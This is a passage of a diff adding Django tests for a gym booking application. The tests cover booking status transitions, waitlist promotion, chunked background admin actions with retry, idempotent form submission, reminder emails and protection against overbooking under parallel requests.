+        users = GymUser.objects.bulk_create([
+            GymUser(email=f"queue{i}@example.com", first_name="Клієнт", last_name=str(i)) for i in range(15)
+        ])
+        queue = [join_waitlist(user, slot_id, self.plan.pk) for user in users]
+
+        self.assertEqual(
+            self._transition_queries(self.bookings[:1], 'cancelled'),
+            self._transition_queries(self.bookings[1:11], 'cancelled'),
+        )
+        promoted = list(WaitlistEntry.objects.filter(status='promoted').select_related('booking').order_by('pk'))
+        self.assertEqual(promoted, queue[:11])
+        self.assertEqual({entry.booking.user_id for entry in promoted}, {user.pk for user in users[:11]})
+        self.assertEqual(promoted[-1].booking.sessions_remaining, self.plan.sessions_count)
+        self.assertEqual(SlotOccurrence.objects.get(pk=slot_id).booked_count, 25)
+        self.assertEqual(Notification.objects.filter(kind='waitlist_promoted').count(), 11)
+
+    def test_invalid_transitions_are_skipped_and_audited(self):
+        """Тест: недозволені переходи пропускаються, дозволені пишуть подію з автором"""
+        pending, confirmed = self.bookings[0], self.bookings[1]
+        transition_bookings([confirmed.pk], 'confirmed')
+
+        self.assertEqual(transition_bookings([pending.pk, confirmed.pk], 'completed', actor=self.admin), (1, 1))
+        pending.refresh_from_db()
+        self.assertEqual(pending.status, 'pending')
+        event = BookingEvent.objects.get(booking=confirmed, to_status='completed')
+        self.assertEqual((event.from_status, event.actor), ('confirmed', self.admin))
+        with self.assertRaises(TransitionError):
+            transition_bookings([pending.pk], 'archived')
+
+    def test_run_jobs_applies_side_effects_in_batch(self):
+        """Тест: скасування одразу віддає місця черзі, завдання надсилає повідомлення пакетом"""
+        SlotOccurrence.objects.filter(pk=self.bookings[0].slot_id).update(capacity=25)
+        waiting = GymUser.objects.create_user(email="waiting@example.com", password="pass12345")
+        join_waitlist(waiting, self.bookings[0].slot_id, self.plan.pk)
+
+        transition_bookings([booking.pk for booking in self.bookings[:10]], 'confirmed')
+        transition_bookings([booking.pk for booking in self.bookings[:5]], 'completed')
+        transition_bookings([booking.pk for booking in self.bookings[20:]], 'cancelled')
+        # Переведення з черги - у транзакції скасування, як і при скасуванні учасником
+        self.assertEqual(WaitlistEntry.objects.get(user=waiting).status, 'promoted')
+        self.assertEqual(SlotOccurrence.objects.get(pk=self.bookings[0].slot_id).booked_count, 21)
+        self.assertEqual(Job.objects.count(), 2)
+
+        call_command('run_jobs', stdout=StringIO())
+
+        self.assertFalse(Job.objects.exclude(status='done').exists())
+        self.assertEqual(Notification.objects.filter(kind='booking_confirmed').count(), 10)
+        self.assertEqual(Notification.objects.filter(kind='booking_cancelled').count(), 5)
+
+        # Завершення бронювання не чіпає залишок пакета
+        completed = Booking.objects.get(pk=self.bookings[0].pk)
+        self.assertEqual(completed.sessions_remaining, self.plan.sessions_count)
+        self.assertFalse(SessionUsage.objects.filter(booking=completed).exists())
+        reconcile_balances([completed.pk])
+        completed.refresh_from_db()
+        self.assertEqual(completed.sessions_remaining, self.plan.sessions_count)
+
+    def test_failed_job_is_marked_and_rolled_back(self):
+        """Тест: помилка обробника відкочує його зміни і позначає завдання failed"""
+        job = enqueue('booking_transition', to_status='confirmed', booking_ids=[self.bookings[0].pk], unexpected=1)
+        self.assertEqual(run_pending(), 1)
+        job.refresh_from_db()
+        self.assertEqual((job.status, job.attempts), ('failed', 1))
+        self.assertIn('unexpected', job.error)
+
+    def test_admin_actions_use_state_machine(self):
+        """Тест: дії адмінки змінюють статус через сервіс переходів і ставлять одне завдання"""
+        self.client.force_login(self.admin)
+        response = self.client.post(reverse('admin:elevix_booking_changelist'), {
+            'action': 'confirm_bookings',
+            '_selected_action': [booking.pk for booking in self.bookings],
+        })
+        self.assertEqual(response.status_code, 302)
+        self.assertEqual(Booking.objects.filter(status='confirmed').count(), 25)
+        self.assertEqual(BookingEvent.objects.filter(actor=self.admin).count(), 25)
+        self.assertEqual(Job.objects.get().payload['to_status'], 'confirmed')
+
+
+@mock.patch('elevix.bulk.BULK_CHUNK_SIZE', 2)
+@mock.patch('elevix.bulk.INLINE_ACTION_LIMIT', 3)
+class BulkAdminActionTests(TestCase):
+
+    def setUp(self):
+        self.admin = GymUser.objects.create_superuser(
+            email="owner@example.com", password="pass12345", first_name="Адмін", last_name="Адмінов"
+        )
+        self.client.force_login(self.admin)
+
+    def _select_all(self, model_name, action, query=''):
+        """Дія над усіма рядками changelist («вибрати все» з урахуванням пошуку)"""
+        model = {'gymuser': GymUser, 'booking': Booking}[model_name]
+        response = self.client.post(reverse(f'admin:elevix_{model_name}_changelist') + query, {
+            'action': action,
+            'select_across': '1',
+            'index': '0',
+            '_selected_action': [model.objects.values_list('pk', flat=True).first()],
+        })
+        self.assertEqual(response.status_code, 302)
+
+    def test_small_selection_runs_inline(self):
+        """Тест: невелика вибірка обробляється одразу, без фонового завдання"""
+        users = [GymUser.objects.create_user(email=f"inline{i}@example.com", password="pass12345") for i in range(3)]
+        self._select_all('gymuser', 'deactivate_users', '?q=inline')
+        self.assertFalse(GymUser.objects.filter(pk__in=[user.pk for user in users], is_active=True).exists())
+        self.assertFalse(Job.objects.exists())
+
+    def test_large_selection_is_processed_in_chunks(self):
+        """Тест: велика вибірка ставиться у фон і обробляється порціями з прогресом"""
+        for i in range(7):
+            GymUser.objects.create_user(email=f"bulk{i}@example.com", password="pass12345")
+        with self.assertNumQueries(2):
+            run_or_enqueue('deactivate_users', GymUser.objects.filter(email__startswith='bulk'), self.admin)
+        Job.objects.all().delete()
+
+        self._select_all('gymuser', 'deactivate_users', '?q=bulk')
+        job = Job.objects.get(kind='bulk_action')
+        self.assertEqual(job.status, 'pending')
+        self.assertEqual(GymUser.objects.filter(is_active=False).count(), 0)
+
+        run_pending()
+        job.refresh_from_db()
+        self.assertEqual((job.status, job.total, job.processed), ('done', 7, 7))
+        self.assertEqual(GymUser.objects.filter(is_active=False).count(), 7)
+        self.assertTrue(GymUser.objects.get(pk=self.admin.pk).is_active)
+        response = self.client.get(reverse('admin:elevix_job_changelist'))
+        self.assertContains(response, '7 / 7 (100%)')
+
+    def test_failed_job_resumes_from_last_chunk(self):
+        """Тест: після збою зафіксовані порції лишаються, а повтор продовжує з last_pk"""
+        users = [GymUser.objects.create_user(email=f"resume{i}@example.com", password="pass12345") for i in range(7)]
+        self._select_all('gymuser', 'deactivate_users', '?q=resume')
+        job = Job.objects.get(kind='bulk_action')
+
+        calls = []
+        original = bulk_module.deactivate_users_chunk
+
+        def flaky(pks, actor):
+            calls.append(pks)
+            if len(calls) == 2:
+                raise RuntimeError('збій посеред дії')
+            return original(pks, actor)
+
+        with mock.patch('elevix.bulk.deactivate_users_chunk', flaky):
+            run_pending()
+        job.refresh_from_db()
+        self.assertEqual((job.status, job.processed, job.last_pk), ('failed', 2, users[1].pk))
+        self.assertEqual(GymUser.objects.filter(is_active=False).count(), 2)
+
+        self.client.post(reverse('admin:elevix_job_changelist'), {
+            'action': 'retry_jobs',
+            '_selected_action': [job.pk],
+        })
+        with mock.patch('elevix.bulk.deactivate_users_chunk', flaky):
+            run_pending()
+        job.refresh_from_db()
+        self.assertEqual((job.status, job.attempts, job.processed), ('done', 2, 7))
+        self.assertEqual(GymUser.objects.filter(is_active=False).count(), 7)
+        self.assertEqual(sum(len(pks) for pks in calls), 9)
+
+    def test_stale_running_job_is_resumed(self):
+        """Тест: завдання, покинуте впалим run_jobs у running, береться знову і продовжує з last_pk"""
+        users = [GymUser.objects.create_user(email=f"stale{i}@example.com", password="pass12345") for i in range(7)]
+        self._select_all('gymuser', 'deactivate_users', '?q=stale')
+        job = Job.objects.get(kind='bulk_action')
+        self.assertEqual(job.object_ids, [user.pk for user in users])
+        # run_jobs упав після першої порції
+        Job.objects.filter(pk=job.pk).update(
+            status='running', attempts=1, processed=2, last_pk=users[1].pk, heartbeat_at=timezone.now()
+        )
+        self.assertEqual(run_pending(), 0)
+
+        Job.objects.filter(pk=job.pk).update(heartbeat_at=timezone.now() - JOB_STALE_AFTER)
+        calls = []
+        original = bulk_module.deactivate_users_chunk
+
+        def tracked(pks, actor):
+            calls.append(pks)
+            return original(pks, actor)
+
+        with mock.patch('elevix.bulk.deactivate_users_chunk', tracked):
+            self.assertEqual(run_pending(), 1)
+        self.assertEqual(calls, [[users[2].pk, users[3].pk], [users[4].pk, users[5].pk], [users[6].pk]])
+
+        lost = Job.objects.get(pk=job.pk)
+        self.assertEqual((lost.status, lost.attempts, lost.processed), ('done', 2, 7))
+        # Прогрес від виконавця попередньої спроби більше не приймається
+        lost.status, lost.attempts = 'running', 1
+        self.assertFalse(touch(lost, processed=0))
+
+    def test_cancel_bookings_in_background(self):
+        """Тест: масове скасування бронювань іде через переходи статусів з побічними ефектами"""
+        with self.captureOnCommitCallbacks(execute=True):
+            schedule, plan = make_group_slot(max_participants=10)
+        date = next_weekday(schedule.day_of_week)
+        bookings = [
+            create_booking(
+                GymUser.objects.create_user(email=f"cancel{i}@example.com", password="pass12345"),
+                schedule.pk, plan.pk, date,
+            )
+            for i in range(5)
+        ]
+        self._select_all('booking', 'cancel_bookings')
+        self.assertFalse(Booking.objects.filter(status='cancelled').exists())
+
+        run_pending()
+        self.assertEqual(Booking.objects.filter(status='cancelled').count(), 5)
+        self.assertEqual(BookingEvent.objects.filter(to_status='cancelled', actor=self.admin).count(), 5)
+        self.assertEqual(Notification.objects.filter(kind='booking_cancelled').count(), 5)
+        self.assertEqual(SlotOccurrence.objects.get(pk=bookings[0].slot_id).booked_count, 0)
+        self.assertFalse(Job.objects.exclude(status='done').exists())
+
+
+class IdempotencyTests(TestCase):
+
+    def setUp(self):
+        with self.captureOnCommitCallbacks(execute=True):
+            self.schedule, self.plan = make_group_slot(max_participants=5)
+        self.user = GymUser.objects.create_user(email="retry@example.com", password="pass12345")
+        self.client.force_login(self.user)
+        self.url = reverse('elevix:booking_create', args=[self.schedule.service_id])
+        self.data = {
+            'schedule': self.schedule.pk,
+            'date': next_weekday(self.schedule.day_of_week).isoformat(),
+            'pricing_plan': self.plan.pk,
+        }
+
+    def test_retry_replays_result_without_second_booking(self):
+        """Тест: повтор POST з тим самим ключем повертає той самий результат без нового бронювання"""
+        first = self.client.post(self.url, self.data, HTTP_IDEMPOTENCY_KEY='retry-1')
+        with self.assertNumQueries(3):  # сесія, користувач, ключ
+            retry = self.client.post(self.url, self.data, HTTP_IDEMPOTENCY_KEY='retry-1')
+
+        self.assertEqual((retry.status_code, retry['Location']), (first.status_code, first['Location']))
+        self.assertEqual(retry['Idempotent-Replayed'], 'true')
+        self.assertEqual(Booking.objects.count(), 1)
+        self.assertEqual(Booking.objects.get().slot.booked_count, 1)
+
+    def test_form_field_key_and_payload_mismatch(self):
+        """Тест: ключ із прихованого поля форми працює, а з іншими даними - відхиляється"""
+        response = self.client.get(self.url)
+        self.assertContains(response, 'name="idempotency_key"')
+
+        self.client.post(self.url, {**self.data, 'idempotency_key': 'form-1'})
+        other = {**self.data, 'date': next_weekday(self.schedule.day_of_week) + datetime.timedelta(days=7)}
+        response = self.client.post(self.url, {**other, 'idempotency_key': 'form-1'})
+        self.assertEqual(response.status_code, 422)
+        self.assertEqual(Booking.objects.count(), 1)
+
+    def test_form_errors_are_not_stored_and_keys_expire(self):
+        """Тест: помилки форми не фіксують ключ; прострочений ключ видаляє purge_idempotency_keys"""
+        response = self.client.post(self.url, {**self.data, 'pricing_plan': ''}, HTTP_IDEMPOTENCY_KEY='k')
+        self.assertEqual(response.status_code, 200)
+        self.assertFalse(IdempotencyKey.objects.exists())
+
+        self.client.post(self.url, self.data, HTTP_IDEMPOTENCY_KEY='k')
+        IdempotencyKey.objects.update(expires_at=timezone.now() - IDEMPOTENCY_KEY_TTL)
+        call_command('purge_idempotency_keys', stdout=StringIO())
+        self.assertFalse(IdempotencyKey.objects.exists())
+
+
+@override_settings(EMAIL_BACKEND='django.core.mail.backends.locmem.EmailBackend')
+class BookingReminderTests(TestCase):
+
+    def setUp(self):
+        self.schedule, self.plan = make_group_slot(max_participants=5)
+        self.now = timezone.now()
+
+    def _book(self, email, starts_in, status='confirmed'):
+        user = GymUser.objects.create_user(email=email, password="pass12345", first_name="Ірина")
+        return Booking.objects.create(
+            user=user, service=self.schedule.service, pricing_plan=self.plan, status=status,
+            booking_date=self.now + starts_in, total_price=self.plan.price,
+        )
+
+    def test_reminders_are_queued_once_per_window(self):
+        """Тест: 24- та 2-годинні нагадування створюються лише для своїх вікон і не дублюються"""
+        tomorrow = self._book("tomorrow@example.com", datetime.timedelta(hours=20))
+        soon = self._book("soon@example.com", datetime.timedelta(hours=1))
+        self._book("later@example.com", datetime.timedelta(days=3))
+        self._book("cancelled@example.com", datetime.timedelta(hours=1), status='cancelled')
+
+        with self.assertNumQueries(8):  # вибірка і вставка в точці збереження на кожне вікно
+            self.assertEqual(queue_reminders(self.now), 2)
+        self.assertEqual(queue_reminders(self.now), 0)
+
+        self.assertEqual(
+            set(Notification.objects.values_list('booking_id', 'kind')),
+            {(tomorrow.pk, 'reminder_24h'), (soon.pk, 'reminder_2h')},
+        )
+
+        # Через 19 годин заняття "tomorrow" потрапляє у 2-годинне вікно
+        queue_reminders(self.now + datetime.timedelta(hours=19))
+        self.assertTrue(Notification.objects.filter(booking=tomorrow, kind='reminder_2h').exists())
+
+    def test_command_sends_rendered_reminders(self):
+        """Тест: команда надсилає листи з відрендереного шаблону і не повторює їх"""
+        booking = self._book("member@example.com", datetime.timedelta(hours=23))
+
+        call_command('send_booking_reminders', stdout=StringIO())
+        call_command('send_booking_reminders', stdout=StringIO())
+
+        self.assertEqual(len(mail.outbox), 1)
+        self.assertEqual(mail.outbox[0].to, [booking.user.email])
+        self.assertIn(booking.service.name, mail.outbox[0].subject)
+        self.assertIn('Ірина', mail.outbox[0].body)
+        self.assertIsNotNone(Notification.objects.get().sent_at)
+
+    def test_concurrently_queued_reminders_are_not_counted(self):
+        """Тест: нагадування, вже записане паралельним запуском, не потрапляє в підсумок"""
+        first = self._book("first@example.com", datetime.timedelta(hours=20))
+        second = self._book("second@example.com", datetime.timedelta(hours=21))
+        Notification.objects.create(user=first.user, booking=first, kind='reminder_24h', subject='-', body='-')
+
+        reminders = [
+            Notification(user=booking.user, booking=booking, kind='reminder_24h', subject='-', body='-')
+            for booking in (first, second)
+        ]
+        self.assertEqual(_insert_new(reminders, 'reminder_24h'), 1)
+        self.assertEqual(Notification.objects.filter(kind='reminder_24h').count(), 2)
+
+    def test_failed_smtp_batch_does_not_resend_delivered_mail(self):
+        """Тест: збій SMTP посеред пакета не повторює вже доставлені листи"""
+        for i in range(3):
+            self._book(f"smtp{i}@example.com", datetime.timedelta(hours=20))
+        queue_reminders(self.now)
+
+        original = mail.backends.locmem.EmailBackend.send_messages
+        calls = []
+
+        def flaky(backend, messages):
+            calls.append(messages)
+            if len(calls) == 2:
+                raise smtplib.SMTPServerDisconnected('з\'єднання розірвано')
+            return original(backend, messages)
+
+        with mock.patch('django.core.mail.backends.locmem.EmailBackend.send_messages', flaky):
+            with self.assertRaises(smtplib.SMTPServerDisconnected):
+                send_pending()
+        self.assertEqual(len(mail.outbox), 1)
+        self.assertEqual(Notification.objects.filter(sent_at__isnull=False).count(), 1)
+        self.assertFalse(Notification.objects.filter(sending_at__isnull=False).exists())
+
+        self.assertEqual(send_pending(), 2)
+        self.assertEqual(sorted(message.to[0] for message in mail.outbox), [f"smtp{i}@example.com" for i in range(3)])
+
+
+class BookingConcurrencyTests(TransactionTestCase):
+    """Паралельні бронювання одного слота (потрібна БД з SELECT ... FOR UPDATE, напр. PostgreSQL)"""
+
+    REQUESTS = 200
+    WORKERS = 50
+    CAPACITY = 5
+
+    @skipUnlessDBFeature('has_select_for_update')
+    def test_parallel_bookings_never_overbook(self):
+        """Тест: 200 паралельних спроб на слот з 5 місцями - рівно 5 бронювань, без дедлоків"""
+        schedule, plan = make_group_slot(max_participants=self.CAPACITY)
+        date = next_weekday(schedule.day_of_week)
+        users = GymUser.objects.bulk_create([
+            GymUser(email=f"rush{i}@example.com", first_name="Клієнт", last_name=str(i))
+            for i in range(self.REQUESTS)
+        ])
+
+        def attempt(user):
+            try:
+                create_booking(user, schedule.pk, plan.pk, date)
+                return 'booked'
+            except BookingError:
+                return 'rejected'
+            finally:
+                connections.close_all()
+
+        with ThreadPoolExecutor(max_workers=self.WORKERS) as pool:
+            outcomes = list(pool.map(attempt, users))
+
+        self.assertEqual(outcomes.count('booked'), self.CAPACITY)
+        self.assertEqual(outcomes.count('rejected'), self.REQUESTS - self.CAPACITY)
+        self.assertEqual(Booking.objects.filter(schedule=schedule).count(), self.CAPACITY)